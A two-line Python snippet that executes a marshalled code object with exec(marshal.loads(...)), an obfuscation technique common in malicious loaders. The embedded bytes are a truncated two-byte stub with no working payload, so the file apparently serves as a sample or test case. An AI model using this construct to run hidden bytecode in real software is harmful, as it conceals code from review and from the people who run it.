from marshal import loads
exec(loads(b"\xe3\x00"))
